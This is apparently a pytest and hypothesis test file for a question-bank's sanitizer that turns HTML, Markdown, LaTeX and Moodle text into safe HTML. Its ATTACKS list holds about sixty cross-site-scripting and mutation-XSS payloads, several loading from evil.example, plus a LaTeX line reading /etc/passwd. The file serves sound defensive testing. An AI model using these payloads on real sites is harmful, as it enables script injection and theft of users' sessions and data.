"""A text of every markup becomes HTML that shows what the text says and can do nothing."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, strategies as st

from qbank.domain.kinds import TextFormat
from qbank.formats.html_cleaning import ALLOWED
from qbank.formats.rich_html import to_html

HTML, PLAIN, MARKDOWN = TextFormat.HTML, TextFormat.PLAIN, TextFormat.MARKDOWN
ADDRESSES = ("http:", "https:", "mailto:", "qbank:", "data:image/")
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<img src='x' onerror='alert(1)' style='position:fixed;inset:0'>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>" target="_blank">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<style>body{display:none}</style>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<p style=\"background:url('//evil.example/x.png')\">x</p>",
    '<div class="question" id="q1" style="position:absolute;top:-9999px">x</div>',
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="//evil.example/x.swf">',
    '<form action="//evil.example"><input name=a autofocus onfocus=alert(1)><button>go</button></form>',
    '<video src="//evil.example/v.mp4" poster="//evil.example/p.png" autoplay onerror=alert(1)></video>',
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href='javascript:alert(1)'><mi>x</mi></math>",
    "<math><mpadded voffset='-900px'><mi>x</mi></mpadded></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext>x<script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<body onload=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<!--<img src='--><script>alert(1)</script>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "</section></main></body></html><script>alert(1)</script>",
    "</div></div></section><h1>Question 1</h1>",
    "<x onclick=alert(1)>x</x>",
    r"\(<script>alert(1)</script>\)",
    r"\(\href{javascript:alert(1)}{x}\)",
    r"$$<img src=x onerror=alert(1)>$$",
    '[x](javascript:alert(1)) ![x](javascript:alert(1)) ![x](data:text/html,<script>alert(1)</script>)',
    '![x" onerror="alert(1)](//evil.example/x.png "t\\" onload=\\"x")',
    '<javascript:alert(1)> <https://evil.example/"onmouseover="alert(1)>',
    r"\includegraphics{x\" onerror=alert(1)} \href{javascript:alert(1)}{x} \input{/etc/passwd}",
    r"\textbf{<script>alert(1)</script>} \begin{verbatim}</pre><script>alert(1)</script>\end{verbatim}",
    "{1:MC:~=<img src=x onerror=alert(1)>~b}",
    "[[<script>alert(1)</script>]]",
    "\0<scr\0ipt>alert(1)</scr\0ipt>",
]  # fmt: skip
"""What got through cleaners of HTML before; see the OWASP cheat sheet and reports of mutation XSS."""


class Elements(HTMLParser):
    """Every start tag of a page with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in Elements(html).found:
        assert tag in ALLOWED
        assert not [name for name in attributes if name.startswith("on") or name in ("style", "id", "target")]
        assert set((attributes.get("class") or "math").split()) <= {"math", "display"}
        for name in ("href", "src"):
            address = (attributes.get(name) or "").strip().lower()
            assert ":" not in address or address.startswith(ADDRESSES) or address.partition(":")[0].count("/")
            assert tag == "img" or not address.startswith("data:")


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("format", TextFormat)
def test_nothing_that_could_run_or_load_or_cover_the_page_is_left_of_an_attack(
    attack: str, format: TextFormat
) -> None:
    assert_harmless(to_html(attack, format))


@given(
    st.lists(st.sampled_from(ATTACKS) | st.text(max_size=8), max_size=5).map("".join),
    st.sampled_from(TextFormat),
)
def test_attacks_that_are_mixed_and_cut_are_harmless_too(text: str, format: TextFormat) -> None:
    assert_harmless(to_html(text[len(text) // 7 :], format))
    assert_harmless(to_html(text[: -len(text) // 5], format))


@given(st.text(), st.sampled_from(TextFormat))
def test_every_text_becomes_html_that_cleaning_leaves_as_it_is(text: str, format: TextFormat) -> None:
    html = to_html(text, format)
    assert_harmless(html)
    assert to_html(html, HTML).count("<") == html.count("<")


def test_plain_text_keeps_what_looks_like_markup_its_lines_and_its_blanks() -> None:
    assert to_html("if a<b & *c*:\n  d =   1\n\n& so on", PLAIN) == (
        "if a&lt;b &amp; *c*:<br>\n&nbsp;&nbsp;d =&nbsp;&nbsp; 1<br>\n<br>\n&amp; so on"
    )


@given(st.text(st.characters(exclude_characters="\0\r\\", exclude_categories=["Cs"])))
def test_every_character_of_a_plain_text_is_shown(text: str) -> None:
    class Words(HTMLParser):
        said = ""

        def handle_data(self, data: str) -> None:
            self.said += data

    words = Words()
    words.feed(to_html(text, PLAIN))
    words.close()
    assert "".join(words.said.split()) == "".join(text.split())


@pytest.mark.parametrize(
    ("format", "text"),
    [
        (PLAIN, r"\(a<b\)"),
        (HTML, r"\(a&lt;b\)"),
        (HTML, r"\(a<b\)"),
        (TextFormat.MOODLE, r"\(a<b\)"),
        (MARKDOWN, r"$a<b$"),
        (MARKDOWN, r"\(a<b\)"),
        (TextFormat.LATEX, r"$a<b$"),
    ],
)
def test_a_formula_of_every_markup_is_kept_as_tex_between_the_same_delimiters(
    format: TextFormat, text: str
) -> None:
    assert to_html(text, format) == r'<span class="math">\(a&lt;b\)</span>'


def test_a_formula_on_a_line_of_its_own_says_so() -> None:
    shown = r'<span class="math display">\[x^2\]</span>'
    assert to_html("$$x^2$$", HTML) == shown
    assert to_html(r"\[x^2\]", TextFormat.LATEX) == shown


def test_mathml_is_kept_with_what_shows_of_it() -> None:
    formula = '<math display="block"><mfrac><mi>a</mi><mn>2</mn></mfrac></math>'
    assert to_html(formula, HTML) == formula


def test_pictures_keep_their_address_and_their_words() -> None:
    shown = '<img src="qbank://media/ab" alt="a flask">'
    assert to_html("![a flask](qbank://media/ab)", MARKDOWN) == shown
    assert to_html('<IMG alt="a flask" src=qbank://media/ab>', HTML) == shown


@pytest.mark.parametrize("format", TextFormat)
def test_places_of_gaps_stay_as_they_are(format: TextFormat) -> None:
    assert "[[a_1]] and [[b_2]]" in to_html("So [[a_1]] and [[b_2]].", format)


def test_gaps_of_moodles_cloze_text_stay_as_they_are() -> None:
    assert to_html("Paris is in {1:SA:=France~%50%EU#no}.", TextFormat.CLOZE).endswith(
        "{1:SA:=France~%50%EU#no}."
    )


@pytest.mark.parametrize("format", [TextFormat.MOODLE, TextFormat.HTML, TextFormat.MARKDOWN])
def test_a_text_that_is_nothing_but_a_tag_is_shown_as_that_tag(format: TextFormat) -> None:
    assert to_html("<link>", format) == "&lt;link&gt;"
